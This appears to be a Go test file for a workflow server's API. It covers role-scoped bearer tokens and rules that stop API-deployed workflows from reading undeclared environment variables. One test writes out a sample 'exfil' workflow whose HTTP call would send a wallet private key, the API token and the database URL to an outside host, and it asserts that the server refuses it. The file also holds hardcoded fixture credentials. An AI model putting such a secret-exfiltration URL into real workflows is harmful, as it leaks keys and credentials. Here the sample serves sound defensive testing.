package server_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/rflow-dev/rflow/jobs"
	"github.com/rflow-dev/rflow/server"
	"github.com/rflow-dev/rflow/store"
)

// Scoped tokens of tokensYAML, as the issue declares them.
const (
	ciToken       = "ci-token-0123456789abcdef"
	treasuryToken = "treasury-token-0123456789"
	oncallToken   = "oncall-token-0123456789ab"
	opsKey        = "0x59c6995e998f97a5a0044966f0945389dc9e86dae88c7a8412f4603b6b78690d"
)

const tokensYAML = `
name: tokenstest
env: [REGION]
api:
  tokens:
    - { name: ci,       token: "${CI_TOKEN}",       roles: [read, deploy] }
    - { name: treasury, token: "${TREASURY_TOKEN}", roles: [read, approve] }
    - { name: oncall,   token: "${ONCALL_TOKEN}",   roles: [read, operate] }
wallets:
  - { name: ops, private_key: "${OPS_PRIVATE_KEY}" }
workflows:
  - name: manual
    trigger: { manual: {} }
    steps:
      - { id: park, delay: 1h }
`

var tokensEnv = map[string]string{
	"CI_TOKEN": ciToken, "TREASURY_TOKEN": treasuryToken, "ONCALL_TOKEN": oncallToken,
	"OPS_PRIVATE_KEY": opsKey, "RFLOW_API_TOKEN": testToken, "DATABASE_URL": "postgres://rflow:pw@db.internal/rflow",
	"REGION": "eu", "HOME_REGION": "us",
}

func tokensBundle(t *testing.T) *testBundle {
	t.Helper()
	return newBundleEnv(t, tokensYAML, tokensEnv, false, func(c *server.Config) { c.River = c.Engine.(*jobs.Engine).Client() })
}

// as sends a request with token as its bearer (header names the scheme as
// sent) and an Idempotency-Key when key is set.
func (b *testBundle) as(t *testing.T, scheme, token, method, path, key string, body []byte) reply {
	t.Helper()
	h := map[string]string{"Authorization": scheme + " " + token}
	if key != "" {
		h[server.HeaderIdempotencyKey] = key
	}
	return b.do(t, method, path, body, h)
}

// TestDeployCannotReadProcessVariables: a definition deployed through the
// API cannot read the wallet key, the API token or the database URL (nor
// any variable the project does not declare under env:): 422 naming each,
// and nothing is deployed. What env: declares it may read.
func TestDeployCannotReadProcessVariables(t *testing.T) {
	t.Parallel()
	b := tokensBundle(t)
	def := func(url string) []byte {
		return []byte(`{"name":"exfil","trigger":{"manual":{}},"steps":[{"id":"x","http_call":{"url":"` + url + `"}}]}`)
	}
	r := b.api(t, http.MethodPut, "/v1/workflows/exfil", "d1", def("http://x/?k=${OPS_PRIVATE_KEY}&t=${RFLOW_API_TOKEN}&d=${DATABASE_URL}"))
	require.Equal(t, http.StatusUnprocessableEntity, r.status, "%s", r.body)
	require.Equal(t, "invalid_workflow", r.errorCode(t))
	for _, name := range []string{"OPS_PRIVATE_KEY", "RFLOW_API_TOKEN", "DATABASE_URL"} {
		require.Contains(t, string(r.body), "${"+name+"} can never be interpolated", "the 422 names %s", name)
	}
	for _, secret := range []string{opsKey, testToken, "db.internal"} {
		require.NotContains(t, string(r.body), secret, "the refusal echoes no secret")
	}
	require.Equal(t, 0, b.count(t, `SELECT count(*) FROM rflow.workflows WHERE name = 'exfil'`))

	// A plain variable the project does not declare: refused too.
	r = b.api(t, http.MethodPut, "/v1/workflows/exfil", "d2", def("https://${HOME_REGION}.example/x"))
	require.Equal(t, http.StatusUnprocessableEntity, r.status, "%s", r.body)
	require.Contains(t, string(r.body), "${HOME_REGION} is not declared under env:")

	// A declared one deploys, marked as from the API.
	r = b.api(t, http.MethodPut, "/v1/workflows/exfil", "d3", def("https://${REGION}.example/x"))
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	require.Equal(t, 1, b.count(t, `SELECT count(*) FROM rflow.workflow_generations WHERE workflow_name = 'exfil' AND from_api`))
	require.Equal(t, 0, b.count(t, `SELECT count(*) FROM rflow.workflow_generations WHERE workflow_name = 'manual' AND from_api`))
}

// TestScopedTokens: each route needs its role; a token without it gets 403
// forbidden naming the role, and changes nothing; RFLOW_API_TOKEN holds
// every role; the Bearer scheme is case-insensitive.
func TestScopedTokens(t *testing.T) {
	t.Parallel()
	b := tokensBundle(t)
	wf := []byte(`{"name":"manual","trigger":{"manual":{}},"steps":[{"id":"park","delay":"2h"}]}`)

	// Every token reads.
	for _, tok := range []string{ciToken, treasuryToken, oncallToken, testToken} {
		r := b.as(t, "Bearer", tok, http.MethodGet, "/v1/runs", "", nil)
		require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	}

	// ci deploys, but neither starts runs nor approves.
	r := b.as(t, "Bearer", ciToken, http.MethodPost, "/v1/workflows/manual/runs", "s1", []byte(`{}`))
	requireForbidden(t, r, "operate", "ci")
	require.Equal(t, 0, b.count(t, `SELECT count(*) FROM rflow.workflow_runs`))
	r = b.as(t, "Bearer", ciToken, http.MethodPost, "/v1/approvals/0123456789ab/approve", "a1", nil)
	requireForbidden(t, r, "approve", "ci")
	r = b.as(t, "Bearer", ciToken, http.MethodPut, "/v1/workflows/manual", "p1", wf)
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)

	// oncall operates, but does not deploy.
	r = b.as(t, "Bearer", oncallToken, http.MethodPut, "/v1/workflows/manual", "p2", []byte(strings.Replace(string(wf), "2h", "3h", 1)))
	requireForbidden(t, r, "deploy", "oncall")
	require.Equal(t, 2, b.count(t, `SELECT generation FROM rflow.workflows WHERE name = 'manual'`), "the refused deploy changed nothing")
	r = b.as(t, "Bearer", oncallToken, http.MethodPost, "/v1/workflows/manual/runs", "s2", []byte(`{}`))
	require.Equal(t, http.StatusCreated, r.status, "%s", r.body)
	runID := r.json(t)["run_id"].(string)
	r = b.as(t, "Bearer", treasuryToken, http.MethodPost, "/v1/runs/"+runID+"/cancel", "c1", nil)
	requireForbidden(t, r, "operate", "treasury")
	r = b.as(t, "Bearer", oncallToken, http.MethodPost, "/v1/workflows/manual/pause", "w1", nil)
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	r = b.as(t, "Bearer", ciToken, http.MethodPost, "/v1/workflows/manual/resume", "w2", nil)
	requireForbidden(t, r, "operate", "ci")

	// The full-access token, with the scheme in any case.
	for i, scheme := range []string{"bearer", "BEARER", "Bearer"} {
		r = b.as(t, scheme, testToken, http.MethodPost, "/v1/workflows/manual/resume", "w3", nil)
		require.Equal(t, http.StatusOK, r.status, "scheme %q: %s", scheme, r.body)
		if i > 0 {
			require.Equal(t, "true", r.header.Get(server.HeaderReplayed))
		}
	}
	r = b.as(t, "Bearer", testToken, http.MethodPost, "/v1/runs/"+runID+"/cancel", "c2", nil)
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)

	// A wrong token, another scheme, or a token's prefix: 401.
	for _, h := range []string{"Bearer " + ciToken[:10], "Basic " + ciToken, "Bearer", ciToken} {
		r = b.do(t, http.MethodGet, "/v1/runs", nil, map[string]string{"Authorization": h})
		require.Equal(t, http.StatusUnauthorized, r.status, "Authorization: %s", h)
	}

	// River UI: reading needs read, acting needs operate.
	r = b.as(t, "Bearer", ciToken, http.MethodGet, "/riverui/api/jobs?state=scheduled", "", nil)
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	cancel := []byte(`{"ids":["999999999"]}`)
	h := map[string]string{"Authorization": "Bearer " + ciToken, "Content-Type": "application/json"}
	r = b.do(t, http.MethodPost, "/riverui/api/jobs/cancel", cancel, h)
	requireForbidden(t, r, "operate", "ci")
	h["Authorization"] = "Bearer " + oncallToken
	r = b.do(t, http.MethodPost, "/riverui/api/jobs/cancel", cancel, h)
	require.Equal(t, http.StatusNotFound, r.status, "operate reaches River UI's action (no such job): %s", r.body)
}

func requireForbidden(t *testing.T, r reply, role, token string) {
	t.Helper()
	require.Equal(t, http.StatusForbidden, r.status, "%s", r.body)
	require.Equal(t, "forbidden", r.errorCode(t))
	e := r.json(t)["error"].(map[string]any)
	require.Contains(t, e["message"], "needs the "+role+" role")
	require.Equal(t, role, e["details"].(map[string]any)["required_role"])
	require.Equal(t, token, e["details"].(map[string]any)["token"])
}

// TestAPIGenerationCompiledUnderAPIRules: a generation recorded as from the
// API (as migration 032 marks the API deploys made before it) is compiled
// under the API's rule whenever it is loaded: its undeclared ${VAR} is
// refused, and no run of it starts.
func TestAPIGenerationCompiledUnderAPIRules(t *testing.T) {
	t.Parallel()
	b := tokensBundle(t)
	spec := []byte(`{"name":"legacy","steps":[{"http_call":{"url":"https://${HOME_REGION}.example/x"},"id":"x"}],"trigger":{"manual":{}}}`)
	tx, err := b.pool.Begin(b.ctx)
	require.NoError(t, err)
	_, err = store.DeployWorkflowFromAPI(b.ctx, tx, "legacy", "legacy-hash", spec)
	require.NoError(t, err)
	require.NoError(t, tx.Commit(b.ctx))

	r := b.api(t, http.MethodPost, "/v1/workflows/legacy/runs", "l1", []byte(`{}`))
	require.Equal(t, http.StatusConflict, r.status, "%s", r.body)
	require.Equal(t, "invalid_definition", r.errorCode(t))
	require.Contains(t, string(r.body), "${HOME_REGION} is not declared under env:")
	require.Equal(t, 0, b.count(t, `SELECT count(*) FROM rflow.workflow_runs WHERE workflow_name = 'legacy'`))
	_, err = b.engine.Workflow(b.ctx, "legacy")
	require.ErrorContains(t, err, "${HOME_REGION} is not declared under env:")
}
